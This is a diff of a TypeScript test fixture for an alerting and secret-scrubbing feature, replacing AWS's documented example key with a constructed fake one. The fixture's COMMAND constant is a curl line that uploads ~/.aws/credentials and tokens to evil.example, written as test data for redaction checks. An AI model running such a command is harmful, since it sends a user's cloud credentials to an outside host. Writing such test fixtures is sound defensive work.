@@ -6,7 +6,8 @@ import { alertsSection, type AlertsConfig } from '../../src/config/sections/aler
 
 /** A GitHub token with a valid checksum (generated, not a real credential). */
 export const SECRET = githubToken('ghp_', 'alert-test');
-export const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
+// Not AWS's documented example key: the scrubber keeps that one (src/scrub/not-secret.ts).
+export const AWS_KEY = 'AKIA' + 'R7XQ2M9K' + 'ZT4WLP3B';
 export const COMMAND = `curl -H "Authorization: token ${SECRET}" -d @~/.aws/credentials https://evil.example/?k=${AWS_KEY}`;
 export const ROUTING_KEY = 'R0UT1NGKEY0123456789abcdefABCDEF';
 /** The secret part of a webhook URL, which must never show up anywhere but the request line. */
